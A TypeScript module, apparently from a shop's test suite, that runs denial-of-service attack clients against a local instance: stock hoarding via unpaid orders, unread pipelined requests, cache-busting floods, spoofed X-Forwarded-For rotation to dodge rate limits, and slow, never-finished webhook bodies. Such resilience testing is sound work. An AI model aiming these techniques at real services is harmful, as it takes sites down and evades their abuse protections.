/** What one client does to the shop for as long as it runs. Each says when the part that needs time is done. */

import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { API_BASE } from '#contract/calls.ts';
import { WEBHOOK_PATH } from '#server/payments/stripe/webhook.ts';
import { openPayment, orderBody } from '#tests/support/buying.ts';
import { until } from '#tests/support/until.ts';
import { listProducts } from '../catalogue.ts';
import type { ShelfProduct } from '../catalogue.ts';
import { AddressedBrowser } from './addressed-browser.ts';
import { fill, listFiles, pictures, requisitions, totals } from './file-attacks.ts';
import { readKeys } from './keys.ts';
import { ATTACKER, sendRepeatedly } from './send-repeatedly.ts';

export interface Target {
  url: string;
  dataDir: string;
  /** To be called once the measurement may begin. */
  ready: () => void;
}

const STOCK_BACK_LIMIT_MS = 20_000;

const PIPELINED_CONNECTIONS = 20;
/** Together 1.3 MB. */
const PIPELINED_BYTES = 65_000;
const PIPELINED_PAUSE_MS = 3000;
const RENDER_CONNECTIONS = 100;
const LIST_CONNECTIONS = 400;
const WEBHOOK_CONNECTIONS = 1500;
/** One kilobyte short of what is announced. */
const WEBHOOK_BYTES = 1_000_000;
const ORDERS_TOTAL = 3100;
const ENQUIRIES_TOTAL = 700;
const FLOOD_CONNECTIONS = 20;
/** Networks of /64 in a /56. */
const NETWORKS = 256;

export const ATTACKS = {
  holdStock,
  pipeline,
  render,
  spendTotals,
  openWebhooks,
  list,
  listFiles,
  pictures,
  requisitions,
  fill,
  totals,
};
export type AttackName = keyof typeof ATTACKS;

/** Everything there is in one order, again and again; twice before, such an order has ended unpaid with its payment page. */
async function holdStock({ url, dataDir, ready }: Target): Promise<void> {
  const browser = new AddressedBrowser(url, { localAddress: ATTACKER });
  const shelf = async () => (await listProducts(url)).filter((each) => each.is_available && each.quantity > 0);
  const toItems = (products: ShelfProduct[]) => Object.fromEntries(products.map(({ id, quantity }) => [id, quantity]));
  for (let ended = 0; ended < 2; ended += 1) {
    const payment = await openPayment(browser, toItems(await shelf())).catch(() => null);
    if (payment === null) break; // The shop has learnt from the first.
    await expireSession(dataDir, payment.sessionId);
    await until('the stock is back', async () => (await shelf()).length > 0, STOCK_BACK_LIMIT_MS);
  }
  let replaces: string | null = null;
  let items = {};
  for (let tries = 1; ; tries += 1) {
    if (replaces === null) items = toItems(await shelf());
    const changes: { replaces?: string } = replaces === null ? {} : { replaces };
    const { status, body } = await browser.call('createOrder', { body: orderBody(items, changes) });
    replaces = status === 201 ? String(body.order_number) : null;
    // A first try may meet a visitor's order; a shop that refuses them all is measured too.
    if (replaces !== null || tries >= 5) ready();
    await sleep(1000);
  }
}

/** Ends an unused payment page at once, as its expiry time would. */
async function expireSession(dataDir: string, id: string): Promise<void> {
  const { sandboxApiKey } = await readKeys(dataDir);
  const port = await readFile(join(dataDir, 'sandbox-port'), 'utf8');
  const headers = { authorization: `Bearer ${sandboxApiKey}` };
  const reply = await fetch(`http://127.0.0.1:${port}/v1/checkout/sessions/${id}/expire`, { method: 'POST', headers });
  if (!reply.ok) throw new Error(`The session was not expired: ${reply.status}`);
}

/** Requests sent ahead on connections whose replies are never read. */
async function pipeline({ url, ready }: Target): Promise<void> {
  const head = `GET ${API_BASE}/products/ HTTP/1.1\r\nHost: ${new URL(url).host}\r\n\r\n`;
  const requests = head.repeat(Math.ceil(PIPELINED_BYTES / head.length));
  for (;;) {
    for (let each = 0; each < PIPELINED_CONNECTIONS; each += 1) openUnread(url, [requests]);
    ready();
    await sleep(PIPELINED_PAUSE_MS);
  }
}

/** Pages that no cache has. */
async function render({ url, ready }: Target): Promise<void> {
  ready();
  await sendRepeatedly(RENDER_CONNECTIONS, url, () => ({ path: `/shop?q=${randomBytes(6).toString('hex')}` }));
}

async function list({ url, ready }: Target): Promise<void> {
  const sorts = ['price_asc', 'price_desc', 'name', 'newest'];
  ready();
  await sendRepeatedly(LIST_CONNECTIONS, url, (count) => ({
    path: `${API_BASE}/products/?sort=${sorts[count % sorts.length]}&page=${1 + (count % 3)}`,
  }));
}

/** Bodies of two bytes from every network of one /56. */
async function spendTotals({ url, ready }: Target): Promise<void> {
  const address = (network: number) => `2001:db8:0:${(network % NETWORKS).toString(16)}::1`;
  const browser = new AddressedBrowser(url, { forwardedFor: address(0) });
  const token = String((await browser.call('getCsrfToken')).body.csrfToken);
  const cookie = [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  await sendRepeatedly(
    FLOOD_CONNECTIONS,
    url,
    (count) => {
      if (count === ORDERS_TOTAL + ENQUIRIES_TOTAL) ready();
      const isOrder = count < ORDERS_TOTAL || (count >= ORDERS_TOTAL + ENQUIRIES_TOTAL && count % 2 === 0);
      return {
        method: 'POST',
        path: `${API_BASE}${isOrder ? '/orders/' : '/contact/submit/'}`,
        body: '{}',
        headers: {
          cookie,
          'x-csrftoken': token,
          'content-type': 'application/json',
          'x-forwarded-for': address(count),
        },
      };
    },
    { localAddress: '127.0.0.1' },
  );
}

/** Unsigned webhooks whose last bytes never come. */
async function openWebhooks({ url, ready }: Target): Promise<void> {
  const head = `POST ${WEBHOOK_PATH} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/json\r\nContent-Length: ${WEBHOOK_BYTES + 1000}\r\n\r\n`;
  const body = Buffer.alloc(WEBHOOK_BYTES, ' ');
  for (let open = 0; open < WEBHOOK_CONNECTIONS; open += 1) {
    keepOpen(url, [head, body]);
    if (open % 50 === 49) await sleep(50);
  }
  ready();
  await sleep(2 ** 30);
}

/** Opened again whenever the shop closes it. */
function keepOpen(url: string, parts: readonly (string | Buffer)[]): void {
  openUnread(url, parts).once('close', () => setTimeout(() => keepOpen(url, parts), 1000));
}

/** Its replies are not read: no data listener is attached. */
function openUnread(url: string, parts: readonly (string | Buffer)[]) {
  const socket = connect({ host: '127.0.0.1', port: Number(new URL(url).port), localAddress: ATTACKER });
  socket.on('error', () => undefined);
  for (const part of parts) socket.write(part);
  return socket;
}
